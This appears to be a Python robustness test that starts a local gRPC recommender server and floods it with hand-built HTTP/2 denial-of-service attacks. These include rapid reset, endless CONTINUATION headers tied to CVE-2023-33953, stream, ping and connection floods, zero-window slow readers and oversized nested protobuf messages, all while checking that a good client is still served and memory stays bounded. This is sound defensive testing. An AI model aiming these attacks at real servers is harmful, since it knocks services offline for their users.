#!/usr/bin/env python3
"""Clients that mean harm, against a running server: it serves others meanwhile, keeps its memory, and does not end.

Usage: abuse.py BUILD [--scale 1]     BUILD: build/<preset>; --scale: how many times as much of everything as in CI

Raw sockets and HTTP/2 frames written by hand, since no library sends what these clients send. Each attack runs while a
well-behaved client calls; every one of its calls has to be answered, and the server's resident memory may grow by no more
than MOST_MIB (see there). Standard library only.
"""
import argparse
import os
import pathlib
import random
import resource
import socket
import struct
import sys
import tempfile
import threading
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from server_process import ServerProcess  # noqa: E402

# What the server may take more than before the first attack, at scale 1, in MiB: 10,000 calls under way at 17 kB each
# (stream_flood, rapid_reset: without an acknowledgement of its settings gRPC 1.51 does not hold a client to its limit of
# calls), 16 MiB of headers (endless_headers), 32 streams that do not read at 1 MB each (slow_readers), messages of 4 MB of
# which every two bytes become an object while they are parsed (many_entries), and what malloc keeps of all that.
MOST_MIB = 448
DESCRIPTORS = 256  # soft limit that the server starts with: it raises it
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
RECOMMEND = "/tim4rec.v1.Recommender/Recommend"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header as HPACK's literal without indexing and without Huffman codes."""
    def text(t):
        t = t.encode()
        if len(t) < 127:
            return bytes([len(t)]) + t
        rest, out = len(t) - 127, b"\x7f"
        while rest > 127:
            out += bytes([rest & 127 | 128])
            rest >>= 7
        return out + bytes([rest]) + t
    return b"\0" + text(name) + text(value)


def headers(method, *more):
    return b"".join(literal(*h) for h in [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"),
                                          ("te", "trailers"), ("content-type", "application/grpc"), *more])


def varint(number):
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out + bytes([number]))


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def grpc_message(content, announced=None):
    return b"\0" + struct.pack(">I", len(content) if announced is None else announced) + content


def data_frames(stream, content, end):
    parts = [content[i:i + 16384] for i in range(0, len(content), 16384)] or [b""]
    return b"".join(frame(DATA, END_STREAM if end and n == len(parts) - 1 else 0, stream, part)
                    for n, part in enumerate(parts))


class Connection:
    """An HTTP/2 connection that sends what it is told. Reads only when asked."""

    def __init__(self, address, settings=b"", preface=True):
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, content):
        """False if the server has closed the connection, or takes no more for five seconds."""
        self.socket.settimeout(5)
        try:
            self.socket.sendall(content)
            return True
        except OSError:
            return False

    def frames(self):
        """Frames as they come, as (kind, flags, stream, payload), until the server closes."""
        buffer = b""
        while True:
            while len(buffer) < 9 or len(buffer) < 9 + int.from_bytes(buffer[:3], "big"):
                self.socket.settimeout(30)
                part = self.socket.recv(65536)
                if not part:
                    return
                buffer += part
            end = 9 + int.from_bytes(buffer[:3], "big")
            yield buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7fffffff, buffer[9:end]
            buffer = buffer[end:]

    def call(self, method, message, stream=1):
        """Sends a whole unary call; True if an answer with a message comes, False if only a status does."""
        self.send(frame(HEADERS, END_HEADERS, stream, headers(method)) + data_frames(stream, grpc_message(message), True))
        answered = False
        for kind, flags, of, payload in self.frames():
            if kind == SETTINGS and not flags & 1:
                self.send(frame(SETTINGS, 1, 0))
            if kind == RST_STREAM and of == stream:
                return False
            answered |= kind == DATA and of == stream and len(payload) > 5
            if of == stream and kind in (DATA, HEADERS) and flags & END_STREAM:
                return answered
        return False

    def close(self):
        self.socket.close()


class Attacks:
    """Each method is an attack; it returns the connections to keep open until the next one begins."""

    def __init__(self, server, scale, rng):
        self.server, self.scale, self.random = server, scale, rng

    def connect(self, **how):
        return Connection(self.server.address, **how)

    def garbage(self):
        """Bytes that are no HTTP/2, and frames of random kinds, lengths and streams behind a good beginning."""
        for n in range(100 * self.scale):
            c = self.connect(preface=n % 2 == 1)
            for _ in range(20):
                length = self.random.randrange(0, 200)
                body = self.random.randbytes(length)
                if n % 2 == 1:
                    body = frame(self.random.randrange(0, 12), self.random.randrange(256), self.random.randrange(0, 9), body)
                if not c.send(body):
                    break
            c.close()
        return []

    def giant_headers(self):
        """A megabyte of headers, in one block and without its end; gRPC allows 8 KiB."""
        kept = []
        for n in range(20 * self.scale):
            c = self.connect()
            block = headers(RECOMMEND) + b"".join(literal(f"x-{i}", "y" * 1000) for i in range(1000))
            parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
            out = frame(HEADERS, END_STREAM, 1, parts[0])
            out += b"".join(frame(CONTINUATION, END_HEADERS if n % 2 and p is parts[-1] else 0, 1, p) for p in parts[1:])
            c.send(out)
            kept.append(c)
        return kept

    def endless_headers(self):
        """CONTINUATION frames without an end. gRPC 1.51 keeps all of them (CVE-2023-33953), so 8 MiB each."""
        kept = []
        for _ in range(2 * self.scale):
            c = self.connect()
            c.send(frame(HEADERS, END_STREAM, 1, headers(RECOMMEND)))
            part = frame(CONTINUATION, 0, 1, literal("x", "y" * 16000))
            for _ in range(512):
                if not c.send(part):
                    break
            kept.append(c)
        return kept

    def deep_nesting(self):
        """Groups in groups, and messages in messages, 4 MB deep: refused, one by one."""
        groups = b"\x9b\x06" * 2_000_000  # field 99 begins a group
        nested = b""
        while len(nested) < 200_000:
            nested = field(99, nested)
        for content in (groups, groups[:1_000_000] + b"\x9c\x06" * 500_000, field(2, groups[:1_000_000])):
            c = self.connect()
            if c.call(RECOMMEND, field(1, b"u") + content):
                raise AssertionError("groups without end were answered")
            c.close()
        c = self.connect()
        c.call("/tim4rec.v1.Recommender/RecordAndRecommend", nested)  # an unknown field: whatever it holds
        c.close()
        return []

    def many_entries(self):
        """Messages of 4 MB of nothing but empty entries: two bytes each, and each an object when parsed."""
        for method, number in (("StreamInteractions", 2), ("RecommendBatch", 2), ("RecordInteractions", 2),
                               ("Recommend", 5)):
            c = self.connect()
            c.call("/tim4rec.v1.Recommender/" + method, field(number, b"") * 2_000_000)
            c.close()
        return []

    def stream_flood(self):
        """Streams that are opened and never used, more than the server allows at a time."""
        c = self.connect()
        block = headers("/tim4rec.v1.Recommender/StreamInteractions")
        for n in range(5000 * self.scale):
            if not c.send(frame(HEADERS, END_HEADERS, 2 * n + 1, block)):
                break
        return [c]

    def rapid_reset(self):
        """Calls that are cancelled at once, without waiting for anything."""
        kept = []
        body = data_frames(1, grpc_message(field(1, b"u")), True)[9:]
        for _ in range(2):
            c = self.connect()
            for n in range(5000 * self.scale):
                stream = 2 * n + 1
                if not c.send(frame(HEADERS, END_HEADERS, stream, headers(RECOMMEND)) +
                              frame(DATA, END_STREAM, stream, body) +
                              frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
                    break
            kept.append(c)
        return kept

    def ping_flood(self):
        """Pings and settings that want an answer each, none of which is read."""
        c = self.connect()
        part = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 100
        for _ in range(500 * self.scale):
            if not c.send(part):
                break
        return [c]

    def connection_flood(self):
        """Connections that say nothing, only the beginning, or half a frame."""
        kept = []
        for n in range(600 * self.scale):
            c = self.connect(preface=n % 3 > 0)
            if n % 3 == 2:
                c.send(frame(HEADERS, END_HEADERS, 1, headers(RECOMMEND))[:20])
            kept.append(c)
        return kept

    def slow_readers(self):
        """Lists for a thousand users, again and again, by clients that let the server send nothing."""
        kept = []
        message = grpc_message(field(1, field(2, 60)) + b"".join(field(2, b"user%d" % u) for u in range(1000)))
        for _ in range(8 * self.scale):
            c = self.connect(settings=struct.pack(">HI", 4, 0))  # a window of no bytes
            for stream in range(1, 9, 2):
                c.send(frame(HEADERS, END_HEADERS, stream, headers("/tim4rec.v1.Recommender/RecommendBatch")))
                for _ in range(4):
                    c.send(data_frames(stream, message, False))
            kept.append(c)
        return kept

    def half_sent(self):
        """Messages of 4 MiB of which the last byte never comes."""
        kept = []
        for _ in range(2 * self.scale):
            c = self.connect()
            for stream in range(1, 33, 2):
                c.send(frame(HEADERS, END_HEADERS, stream, headers(RECOMMEND)))
                c.send(data_frames(stream, grpc_message(b"\0" * 65_000, announced=4_194_304), False))
            for stream in range(1, 33, 2):  # as far as its windows allow; then it takes no more
                if not c.send(data_frames(stream, b"\0" * 2_000_000, False)):
                    break
            kept.append(c)
        return kept


class GoodClient(threading.Thread):
    """Calls all the time, over a connection of its own each time."""

    def __init__(self, address):
        super().__init__()
        self.address, self.stopped, self.calls, self.failed = address, threading.Event(), 0, []

    def run(self):
        while not self.stopped.wait(0.02):
            begin = time.monotonic()
            try:
                c = Connection(self.address)
                answered = c.call(RECOMMEND, field(1, b"good"))
                c.close()
            except OSError as error:
                answered = False
                self.failed.append(f"after {time.monotonic() - begin:.1f} s: {error}")
            if answered:
                self.calls += 1
            elif not self.failed:
                self.failed.append("no answer")


def memory_mib(pid):
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS"):
            return int(line.split()[1]) / 1024
    return 0.0


def attack(server, name, attacks):
    """Runs one attack; returns its faults."""
    good = GoodClient(server.address)
    good.start()
    pid, peak, done = server.process.pid, [0.0], threading.Event()

    def watch():
        while not done.wait(0.02):
            peak[0] = max(peak[0], memory_mib(pid))
    watcher = threading.Thread(target=watch)
    watcher.start()
    faults, kept = [], []
    begin = time.monotonic()
    try:
        kept = getattr(attacks, name)()
        time.sleep(0.5)  # what it left is still there while the good client goes on
    except (OSError, AssertionError) as error:
        faults.append(f"{name}: {error!r}")
    good.stopped.set()
    good.join()
    done.set()
    watcher.join()
    for c in kept:
        c.close()
    print(f"{name}: {time.monotonic() - begin:.1f} s, {good.calls} good calls, memory {peak[0]:.0f} MiB at most", flush=True)
    if server.process.poll() is not None:
        faults.append(f"{name}: the server ended with {server.process.returncode}: {server.errors()[-2000:]}")
    if good.failed or good.calls == 0:
        faults.append(f"{name}: a good client was not served: {good.failed[:3]}")
    return faults, peak[0]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("build", type=pathlib.Path)
    parser.add_argument("--scale", type=int, default=1)
    parser.add_argument("--only", help="one attack")
    parser.add_argument("--most-mib", type=int, default=MOST_MIB, help="growth of memory allowed at scale 1")
    arguments = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    seed = int(os.environ.get("TIM4REC_TEST_SEED", time.time_ns() % 2**32))
    print(f"TIM4REC_TEST_SEED={seed}")
    names = [n for n in vars(Attacks) if not n.startswith("_") and n != "connect"]
    faults = []
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, DESCRIPTORS), hard))
    with tempfile.TemporaryDirectory() as folder, ServerProcess(arguments.build.resolve(), f"{folder}/data") as server:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        attacks = Attacks(server, arguments.scale, random.Random(seed))
        Connection(server.address).call(RECOMMEND, field(1, b"good"))
        silent = [Connection(server.address, preface=False).socket for _ in range(3)]
        before = memory_mib(server.process.pid)
        print(f"memory {before:.0f} MiB")
        for name in [arguments.only] if arguments.only else names:
            found, peak = attack(server, name, attacks)
            faults += found
            if peak > before + arguments.most_mib * arguments.scale:
                faults.append(f"{name}: memory grew from {before:.0f} to {peak:.0f} MiB")
            if server.process.poll() is not None:
                break
        else:
            for s in silent:
                s.settimeout(60)
                try:
                    while s.recv(1000):
                        pass
                except TimeoutError:
                    faults.append("a connection that says nothing is kept open")
            if (code := server.stop()) != 0:
                faults.append(f"the server ended with {code}")
    for fault in faults:
        print(f"FAULT: {fault}")
    sys.exit(1 if faults else 0)


if __name__ == "__main__":
    main()
